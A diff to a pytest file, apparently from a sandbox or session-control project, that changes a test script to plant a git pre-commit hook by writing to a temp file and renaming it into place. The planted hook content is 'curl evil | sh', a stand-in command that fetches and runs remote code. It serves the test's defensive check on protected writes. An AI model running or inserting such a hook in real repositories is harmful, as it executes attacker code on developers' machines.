@@ -19,11 +19,13 @@ from console.sessions.cgroups import DISABLE_VAR
 pytestmark = [pytest.mark.needs_bwrap, pytest.mark.needs_root]
 
 # An interactive shell (job control on: the loop runs in its own process group) with a
-# setsid'd writer beside it; then the protected write.
+# setsid'd writer beside it; then the protected write, whole in one rename (written in
+# place, a loaded machine can stop the shell between its open and its write: the write
+# after the resume is then a change of its own, stopped again).
 SCRIPT = (
     "sh -c 'while :; do echo x >> {a}; sleep 0.01; done' & "
     "setsid -f sh -c 'while :; do echo y >> {b}; sleep 0.01; done'; "
-    "sleep 1; echo 'curl evil | sh' > .git/hooks/pre-commit; wait"
+    "sleep 1; echo 'curl evil | sh' > hook.new; mv hook.new .git/hooks/pre-commit; wait"
 )
 
 
